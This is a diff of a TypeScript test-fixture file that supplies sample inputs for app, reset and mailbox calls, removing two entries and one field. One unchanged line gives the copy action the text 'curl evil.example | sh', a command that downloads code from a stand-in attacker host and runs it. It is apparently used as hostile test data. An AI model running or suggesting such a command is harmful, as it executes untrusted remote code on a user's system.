@@ -70,7 +70,6 @@ export function callInputs(scene: CallScene): { asking: Inputs<AskingCall>; harm
       await console.must('app.setAutoLock', { afterMinutes: 5, withScreen: true });
       return { afterMinutes: 0, withScreen: false };
     },
-    'app.openLink': () => ({ link: 'gluuDocs' }),
     'app.copy': () => ({ text: 'curl evil.example | sh' }),
     'app.saveText': () => ({ name: 'report.md', text: 'x' }),
     'server.save': () => ({
@@ -132,11 +131,10 @@ export function callInputs(scene: CallScene): { asking: Inputs<AskingCall>; harm
     'reset.rehearse': reset,
     'reset.request': () => ({ ...reset(), typedName: 'bank' }),
     'reset.withdraw': () => ({ ...onMoved(), runId }),
-    'reset.check': () => ({ ...onMoved(), runId }),
     'reset.pending': onMoved,
     'reset.purge': () => ({ ...writing(), which: { kind: 'expired' } }),
     'mailbox.check': (kind) => ({ draft: mailbox(kind), password: { kind: 'typed', value: 'typed' } }),
-    'mailbox.trust': () => ({ ...mail(), vantage: 'here', sha256: PIN }),
+    'mailbox.trust': () => ({ ...mail(), sha256: PIN }),
     'mailbox.wait': async (kind) => {
       await console.must('mailbox.save', { draft: mailbox(kind), password: typed('typed') });
       return { token: 'ABCDEFGH', since: new Date().toISOString(), limitMs: 1000 };
